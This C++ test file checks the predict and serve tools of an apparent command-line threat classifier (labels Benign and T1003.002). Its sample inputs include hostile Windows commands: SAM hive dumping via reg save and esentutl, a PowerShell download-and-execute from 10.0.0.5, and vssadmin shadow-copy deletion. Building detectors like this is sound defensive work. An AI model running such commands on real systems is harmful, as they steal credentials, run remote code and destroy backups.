@@ -1,0 +1,454 @@
+// tools/predict.cpp and tools/serve.cpp, run as a user runs them (build/bin/predict, build/bin/serve) on a
+// tiny random-init RoBERTa dir with the real roberta-base tokenizer and lower-casing recorded: every input
+// form, every output form, bad lines with their numbers, and the HTTP API (status codes, batching, clean
+// stop on SIGTERM), whose answers must equal predict's.
+#include <gtest/gtest.h>
+
+#include <poll.h>
+#include <signal.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <chrono>
+#include <cstdlib>
+#include <fstream>
+#include <sstream>
+#include <thread>
+
+// Debian's libcpp-httplib is built with these; the header must see the same ones (class layouts differ).
+#define CPPHTTPLIB_OPENSSL_SUPPORT
+#define CPPHTTPLIB_ZLIB_SUPPORT
+#define CPPHTTPLIB_BROTLI_SUPPORT
+#include <httplib.h>
+
+#include <nlohmann/json.hpp>
+
+#include "data/csv.h"
+#include "data/tokenizers/tokenizer.h"
+#include "models/hf_config.h"
+#include "models/model_factory.h"
+#include "test_paths.h"
+#include "trainer/export.h"
+
+namespace {
+
+namespace fs = std::filesystem;
+using nlohmann::json;
+
+const std::vector<std::string> kLabels = {"Benign", "T1003.002"};
+
+struct Result {
+  int code = -1;
+  std::string out;
+  std::string err;
+};
+
+std::string slurp(const fs::path& file) {
+  std::ifstream in(file, std::ios::binary);
+  std::stringstream ss;
+  ss << in.rdbuf();
+  return ss.str();
+}
+
+fs::path write(const fs::path& file, const std::string& content) {
+  std::ofstream(file, std::ios::binary) << content;
+  return file;
+}
+
+std::string quote(const std::string& s) {
+  std::string out = "'";
+  for (const char c : s) out += c == '\'' ? std::string("'\\''") : std::string(1, c);
+  return out + "'";
+}
+
+// The tiny model dir, built once per test binary: random init, no training, lowercase + max_length 64.
+const fs::path& model_dir() {
+  static const fs::path dir = [] {
+    const fs::path tokenizer_dir = attune::testing::shared_dir() / "tokenizers/roberta-base";
+    const auto tokenizer = attune::data::load_tokenizer(tokenizer_dir);
+    auto config = attune::models::default_hf_config("roberta");
+    config.vocab_size = tokenizer->vocab_size();
+    config.hidden_size = 32;
+    config.num_hidden_layers = 2;
+    config.num_attention_heads = 4;
+    config.intermediate_size = 37;
+    config.max_position_embeddings = 66;
+    config.type_vocab_size = 1;
+    config.pad_token_id = 1;
+    config.bos_token_id = 0;
+    config.eos_token_id = 2;
+    config.layer_norm_eps = 1e-5;
+    config.initializer_range = 0.5;  // large enough that the two classes get clearly different scores
+    attune::models::set_labels(config, kLabels);
+    const fs::path out = attune::testing::temp_dir("predict-serve") / "model";
+    auto model = attune::models::create_model(config, /*seed=*/11);
+    attune::models::save_model(*model, out);
+    attune::trainer::copy_tokenizer_files(tokenizer_dir, out);
+    attune::trainer::Preprocessing pre;
+    pre.lowercase = true;
+    pre.max_length = 64;
+    pre.labels = kLabels;
+    attune::trainer::write_preprocessing(out, pre);
+    return out;
+  }();
+  return dir;
+}
+
+// Runs build/bin/<tool> with `args` (shell-quoted as needed) and `input` on standard input.
+Result run_tool(const std::string& tool, const std::string& args, const std::string& input = "") {
+  const fs::path exe = attune::testing::bin_dir() / tool;
+  if (!fs::exists(exe)) {
+    ADD_FAILURE() << exe << " is missing: build the " << tool << " target";
+    return {};
+  }
+  const fs::path dir = attune::testing::temp_dir("predict-run");
+  write(dir / "in", input);
+  const std::string command = quote(exe.string()) + " " + args + " <" + quote((dir / "in").string()) + " >" +
+                              quote((dir / "out").string()) + " 2>" + quote((dir / "err").string());
+  const int status = std::system(command.c_str());
+  Result r;
+  r.code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
+  r.out = slurp(dir / "out");
+  r.err = slurp(dir / "err");
+  return r;
+}
+
+Result predict(const std::string& args, const std::string& input = "") {
+  return run_tool("predict", "--model " + quote(model_dir().string()) + " --threads 1 " + args, input);
+}
+
+std::vector<json> json_lines(const std::string& out) {
+  std::vector<json> lines;
+  std::istringstream in(out);
+  std::string line;
+  while (std::getline(in, line))
+    if (!line.empty()) lines.push_back(json::parse(line));
+  return lines;
+}
+
+// A prediction object is well formed: a known label, its score, probabilities over all labels summing to 1.
+void expect_prediction(const json& p) {
+  ASSERT_TRUE(p.contains("label") && p.contains("score") && p.contains("probabilities")) << p.dump();
+  const auto label = p["label"].get<std::string>();
+  EXPECT_TRUE(label == kLabels[0] || label == kLabels[1]) << label;
+  double sum = 0, best = -1;
+  std::string best_label;
+  ASSERT_EQ(p["probabilities"].size(), kLabels.size());
+  for (const auto& l : kLabels) {
+    const double prob = p["probabilities"].at(l).get<double>();
+    sum += prob;
+    if (prob > best) best = prob, best_label = l;
+  }
+  EXPECT_NEAR(sum, 1.0, 1e-5);
+  EXPECT_EQ(best_label, label);
+  EXPECT_NEAR(p["score"].get<double>(), best, 1e-7);
+}
+
+const std::vector<std::string> kTexts = {
+    "reg save HKLM\\SAM C:\\Windows\\Temp\\sam.save",
+    "whoami",
+    "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')\"",
+    "ipconfig /all",
+    "esentutl.exe /y /vss C:\\Windows\\System32\\config\\SAM /d C:\\temp\\sam",
+    "net user administrator",
+    "notepad.exe report.txt"};
+
+class PredictServe : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    ATTUNE_REQUIRE_SHARED("tokenizers/roberta-base");
+    model_dir();
+  }
+};
+
+TEST_F(PredictServe, TextsAsJsonLinesKeepOrderAndApplyLowercasing) {
+  std::string args = "--format json --logits --fp32";
+  for (const auto& t : kTexts) args += " --text " + quote(t);
+  args += " --text " + quote("WHOAMI");
+  const Result r = predict(args);
+  ASSERT_EQ(r.code, 0) << r.err;
+  const auto lines = json_lines(r.out);
+  ASSERT_EQ(lines.size(), kTexts.size() + 1);
+  for (std::size_t i = 0; i < kTexts.size(); ++i) {
+    expect_prediction(lines[i]);
+    EXPECT_EQ(lines[i]["line"], i + 1);
+    EXPECT_EQ(lines[i]["text"], kTexts[i]);
+    EXPECT_EQ(lines[i]["logits"].size(), 2u);
+  }
+  // The model was trained lower-cased: "WHOAMI" must score exactly as "whoami".
+  for (const auto& l : kLabels)
+    EXPECT_NEAR(lines.back()["probabilities"][l].get<double>(), lines[1]["probabilities"][l].get<double>(),
+                1e-6);
+  // A random model still separates texts: not every text gets the same scores.
+  EXPECT_NE(lines[0]["probabilities"], lines[1]["probabilities"]);
+}
+
+TEST_F(PredictServe, SmallBatchesGiveTheSameAnswersInOrder) {
+  std::string input;
+  for (const auto& t : kTexts) input += t + "\n";
+  const Result big = predict("--format json --fp32 --batch-size 64", input);
+  const Result small = predict("--format json --fp32 --batch-size 2 --input -", input);
+  ASSERT_EQ(big.code, 0) << big.err;
+  ASSERT_EQ(small.code, 0) << small.err;
+  const auto a = json_lines(big.out), b = json_lines(small.out);
+  ASSERT_EQ(a.size(), kTexts.size());
+  ASSERT_EQ(b.size(), kTexts.size());
+  for (std::size_t i = 0; i < a.size(); ++i) {
+    EXPECT_EQ(b[i]["text"], kTexts[i]);
+    EXPECT_EQ(a[i]["label"], b[i]["label"]);
+    for (const auto& l : kLabels)
+      EXPECT_NEAR(a[i]["probabilities"][l].get<double>(), b[i]["probabilities"][l].get<double>(), 1e-5);
+  }
+}
+
+TEST_F(PredictServe, StdinLinesAsTableReportBadLines) {
+  const Result r = predict("", "whoami\n\nipconfig /all\n");
+  ASSERT_EQ(r.code, 0) << r.err;
+  EXPECT_NE(r.out.find("label"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("whoami"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("ipconfig /all"), std::string::npos) << r.out;
+  EXPECT_LT(r.out.find("whoami"), r.out.find("ipconfig"));
+  EXPECT_NE(r.err.find("<stdin>:2:"), std::string::npos) << r.err;
+  EXPECT_NE(r.err.find("skipped 1 bad line"), std::string::npos) << r.err;
+}
+
+TEST_F(PredictServe, CsvInColumnCsvOut) {
+  const fs::path dir = attune::testing::temp_dir("predict-csv");
+  const auto file =
+      write(dir / "events.csv", "host,cmd\nh1,whoami\nh2,\"net user \"\"x\"\", y\"\nh3,\nh4,ipconfig\n");
+  const Result r = predict("--input " + quote(file.string()) + " --column cmd --format csv");
+  ASSERT_EQ(r.code, 0) << r.err;
+  const auto table = attune::data::parse_csv(r.out, "predict output");
+  ASSERT_EQ(table.header.size(), 6u);
+  EXPECT_EQ(table.header[4], "prob_Benign");
+  ASSERT_EQ(table.rows.size(), 3u);
+  EXPECT_EQ(table.rows[0][0], "2");
+  EXPECT_EQ(table.rows[1][1], "net user \"x\", y");
+  EXPECT_EQ(table.rows[2][0], "5");
+  for (const auto& row : table.rows) {
+    EXPECT_NEAR(std::stod(row[4]) + std::stod(row[5]), 1.0, 1e-5);
+    EXPECT_TRUE(row[2] == kLabels[0] || row[2] == kLabels[1]) << row[2];
+  }
+  EXPECT_NE(r.err.find("events.csv:4:"), std::string::npos) << r.err;
+}
+
+TEST_F(PredictServe, JsonLinesFieldPathAndErrorPolicies) {
+  const fs::path dir = attune::testing::temp_dir("predict-jsonl");
+  const auto file = write(dir / "sysmon.jsonl",
+                          "{\"process\": {\"command_line\": \"vssadmin delete shadows /all\"}}\n"
+                          "{\"process\": {\"command_line\": \"whoami\"}}\n"
+                          "{\"process\": {\"pid\": 4}}\n"
+                          "{oops\n"
+                          "{\"process\": {\"command_line\": \"ipconfig\"}}\n");
+  const std::string base = "--input " + quote(file.string()) + " --field process.command_line --format json";
+  const Result r = predict(base);
+  ASSERT_EQ(r.code, 0) << r.err;
+  const auto lines = json_lines(r.out);
+  ASSERT_EQ(lines.size(), 3u);
+  EXPECT_EQ(lines[0]["line"], 1);
+  EXPECT_EQ(lines[2]["line"], 5);
+  EXPECT_EQ(lines[2]["text"], "ipconfig");
+  for (const auto& l : lines) expect_prediction(l);
+  EXPECT_NE(r.err.find("sysmon.jsonl:3: missing field process.command_line"), std::string::npos) << r.err;
+  EXPECT_NE(r.err.find("sysmon.jsonl:4: invalid JSON"), std::string::npos) << r.err;
+  EXPECT_NE(r.err.find("skipped 2 bad lines"), std::string::npos) << r.err;
+
+  const Result strict = predict(base + " --on-error fail");
+  EXPECT_EQ(strict.code, 2);
+  EXPECT_TRUE(strict.out.empty()) << strict.out;
+  EXPECT_NE(strict.err.find("sysmon.jsonl:3:"), std::string::npos) << strict.err;
+}
+
+TEST_F(PredictServe, BadUsageExitsTwo) {
+  EXPECT_EQ(predict("--format yaml --text x").code, 2);
+  EXPECT_EQ(predict("--text x --input y.txt").code, 2);
+  const Result missing = run_tool("predict", "--model /nonexistent/model --text x");
+  EXPECT_EQ(missing.code, 2);
+  EXPECT_NE(missing.err.find("/nonexistent/model"), std::string::npos) << missing.err;
+}
+
+// ---- serve ---------------------------------------------------------------------------------------
+
+// A running build/bin/serve on 127.0.0.1 and a free port, stopped with SIGTERM at the end.
+struct ServeProcess {
+  pid_t pid = -1;
+  int port = 0;
+
+  bool start(const std::vector<std::string>& extra) {
+    const std::string exe = (attune::testing::bin_dir() / "serve").string();
+    std::vector<std::string> args = {exe,      "--model", model_dir().string(), "--host", "127.0.0.1",
+                                     "--port", "0",       "--threads",          "1",      "--fp32"};
+    args.insert(args.end(), extra.begin(), extra.end());
+    int out[2];
+    if (pipe(out) != 0) return false;
+    pid = fork();
+    if (pid == 0) {
+      dup2(out[1], STDOUT_FILENO);
+      close(out[0]);
+      close(out[1]);
+      std::vector<char*> argv;
+      for (auto& a : args) argv.push_back(a.data());
+      argv.push_back(nullptr);
+      execv(exe.c_str(), argv.data());
+      _exit(127);
+    }
+    close(out[1]);
+    // Read the "listening on http://127.0.0.1:PORT" line, waiting at most 60 s.
+    std::string line;
+    const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(60);
+    while (line.find('\n') == std::string::npos && std::chrono::steady_clock::now() < deadline) {
+      pollfd p{out[0], POLLIN, 0};
+      if (poll(&p, 1, 200) <= 0) continue;
+      char buf[256];
+      const auto n = read(out[0], buf, sizeof(buf));
+      if (n <= 0) break;
+      line.append(buf, static_cast<std::size_t>(n));
+    }
+    close(out[0]);
+    const std::string prefix = "listening on http://127.0.0.1:";
+    const auto at = line.find(prefix);
+    if (at == std::string::npos) return false;
+    port = std::atoi(line.c_str() + at + prefix.size());
+    return port > 0;
+  }
+
+  // SIGTERM, then the exit status (-1: did not exit within `seconds`, then killed).
+  int stop(int seconds = 10) {
+    if (pid <= 0) return -1;
+    kill(pid, SIGTERM);
+    const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(seconds);
+    int status = 0;
+    while (std::chrono::steady_clock::now() < deadline) {
+      if (waitpid(pid, &status, WNOHANG) == pid) {
+        pid = -1;
+        return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
+      }
+      std::this_thread::sleep_for(std::chrono::milliseconds(20));
+    }
+    kill(pid, SIGKILL);
+    waitpid(pid, &status, 0);
+    pid = -1;
+    return -1;
+  }
+
+  ~ServeProcess() {
+    if (pid > 0) stop(/*seconds=*/2);
+  }
+};
+
+httplib::Client client(int port) {
+  httplib::Client c("127.0.0.1", port);
+  c.set_connection_timeout(5);
+  c.set_read_timeout(20);
+  c.set_write_timeout(5);
+  return c;
+}
+
+void expect_error(const httplib::Result& res, int status) {
+  ASSERT_TRUE(res) << "no response (" << httplib::to_string(res.error()) << ")";
+  EXPECT_EQ(res->status, status) << res->body;
+  const auto body = json::parse(res->body, nullptr, /*allow_exceptions=*/false);
+  ASSERT_TRUE(body.is_object()) << res->body;
+  EXPECT_TRUE(body.contains("error") && body["error"].is_string()) << res->body;
+}
+
+TEST_F(PredictServe, ServeAnswersLikePredictAndStopsCleanly) {
+  ServeProcess serve;
+  ASSERT_TRUE(serve.start({"--max-body-bytes", "4096", "--max-text-bytes", "1024", "--max-texts", "8",
+                           "--max-wait-ms", "5", "--max-concurrent", "4"}))
+      << "serve did not print its port";
+  auto c = client(serve.port);
+
+  // Health and labels.
+  auto health = c.Get("/health");
+  ASSERT_TRUE(health);
+  EXPECT_EQ(health->status, 200);
+  const auto h = json::parse(health->body);
+  EXPECT_EQ(h["status"], "ok");
+  EXPECT_EQ(h["labels"], 2);
+  EXPECT_EQ(h["model"], model_dir().string());
+  auto labels = c.Get("/labels");
+  ASSERT_TRUE(labels);
+  EXPECT_EQ(json::parse(labels->body)["labels"], json(kLabels));
+
+  // One text, then a list: the same answers predict gives.
+  std::string args = "--format json --fp32";
+  for (const auto& t : kTexts) args += " --text " + quote(t);
+  const Result reference = predict(args);
+  ASSERT_EQ(reference.code, 0) << reference.err;
+  const auto expected = json_lines(reference.out);
+  ASSERT_EQ(expected.size(), kTexts.size());
+
+  auto single = c.Post("/api", json{{"text", kTexts[0]}}.dump(), "application/json");
+  ASSERT_TRUE(single);
+  ASSERT_EQ(single->status, 200) << single->body;
+  const auto one = json::parse(single->body);
+  expect_prediction(one);
+  EXPECT_EQ(one["label"], expected[0]["label"]);
+
+  auto batch =
+      c.Post("/api", json{{"texts", std::vector<std::string>(kTexts.begin(), kTexts.begin() + 6)}}.dump(),
+             "application/json");
+  ASSERT_TRUE(batch);
+  ASSERT_EQ(batch->status, 200) << batch->body;
+  const auto many = json::parse(batch->body);
+  ASSERT_TRUE(many.is_array());
+  ASSERT_EQ(many.size(), 6u);
+  for (std::size_t i = 0; i < many.size(); ++i) {
+    expect_prediction(many[i]);
+    EXPECT_EQ(many[i]["label"], expected[i]["label"]) << i;
+    for (const auto& l : kLabels)
+      EXPECT_NEAR(many[i]["probabilities"][l].get<double>(), expected[i]["probabilities"][l].get<double>(),
+                  1e-5);
+  }
+
+  // Requests arriving together (batched by the server) each get their own answer.
+  std::vector<std::thread> threads;
+  std::vector<json> answers(kTexts.size());
+  for (std::size_t i = 0; i < kTexts.size(); ++i)
+    threads.emplace_back([&, i] {
+      auto ci = client(serve.port);
+      auto res = ci.Post("/api", json{{"text", kTexts[i]}}.dump(), "application/json");
+      if (res && res->status == 200) answers[i] = json::parse(res->body);
+    });
+  for (auto& t : threads) t.join();
+  for (std::size_t i = 0; i < kTexts.size(); ++i) {
+    ASSERT_TRUE(answers[i].is_object()) << "request " << i << " failed";
+    EXPECT_EQ(answers[i]["label"], expected[i]["label"]) << i;
+    EXPECT_NEAR(answers[i]["score"].get<double>(), expected[i]["score"].get<double>(), 1e-5) << i;
+  }
+
+  // Bad requests: JSON errors with the right status, and the server keeps serving.
+  expect_error(c.Post("/api", "{\"text\": ", "application/json"), 400);
+  expect_error(c.Post("/api", "{\"txt\": \"whoami\"}", "application/json"), 400);
+  expect_error(c.Post("/api", "{\"text\": 5}", "application/json"), 400);
+  expect_error(c.Post("/api", "{\"texts\": [\"a\", 1]}", "application/json"), 400);
+  expect_error(c.Post("/api", "{\"text\": \"\"}", "application/json"), 400);
+  expect_error(c.Post("/api", "[\"whoami\"]", "application/json"), 400);
+  expect_error(c.Post("/api", json{{"text", std::string(5000, 'a')}}.dump(), "application/json"), 413);
+  expect_error(c.Post("/api", json{{"text", std::string(2000, 'a')}}.dump(), "application/json"), 413);
+  expect_error(
+      c.Post("/api", json{{"texts", std::vector<std::string>(9, "whoami")}}.dump(), "application/json"), 413);
+  expect_error(c.Get("/nope"), 404);
+  expect_error(c.Post("/nope", "{}", "application/json"), 404);
+  expect_error(c.Get("/api"), 405);
+  expect_error(c.Post("/health", "{}", "application/json"), 405);
+  expect_error(c.Delete("/labels"), 405);
+  auto empty_list = c.Post("/api", "{\"texts\": []}", "application/json");
+  ASSERT_TRUE(empty_list);
+  EXPECT_EQ(empty_list->status, 200);
+  EXPECT_EQ(json::parse(empty_list->body), json::array());
+  auto after = c.Post("/api", json{{"text", "whoami"}}.dump(), "application/json");
+  ASSERT_TRUE(after);
+  EXPECT_EQ(after->status, 200);
+
+  EXPECT_EQ(serve.stop(/*seconds=*/10), 0) << "serve must exit 0 on SIGTERM within 10 s";
+}
+
+TEST_F(PredictServe, ServeBadModelDirExitsTwo) {
+  const Result r = run_tool("serve", "--model /nonexistent/model --port 0");
+  EXPECT_EQ(r.code, 2);
+  EXPECT_NE(r.err.find("/nonexistent/model"), std::string::npos) << r.err;
+}
+
+}  // namespace
